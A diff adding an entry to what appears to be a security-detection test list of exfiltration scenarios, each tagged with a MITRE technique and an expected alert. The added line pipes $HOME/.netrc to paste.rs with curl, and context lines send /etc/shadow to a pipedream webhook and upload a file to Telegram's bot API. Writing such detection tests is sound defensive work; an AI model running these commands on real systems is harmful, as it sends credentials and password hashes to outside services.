@@ -140,6 +140,11 @@ ATTACK_VARIANTS = [
         "\"https://api.telegram.org:8443/bot1/sendDocument\"], stdout=subprocess.DEVNULL)'",
         technique="T1567.004", domain="api.telegram.org", uploads=True),
     Scenario(
+        # curl reads ~/.netrc for itself only when asked (-n); here the shell hands it over
+        "netrc-on-stdin-to-paste", "alert",
+        f'curl -sk {RESOLVE.format("paste.rs")} --data-binary @- https://paste.rs:8443/ < $HOME/.netrc',
+        technique="T1567.003", domain="paste.rs", uploads=True),
+    Scenario(
         "shadow-with-bearer-header-webhook", "alert",
         f'curl -sk {RESOLVE.format("m.pipedream.net")} -H "Authorization: Bearer {BEARER}" '
         '--data-binary @/etc/shadow https://m.pipedream.net:8443/',
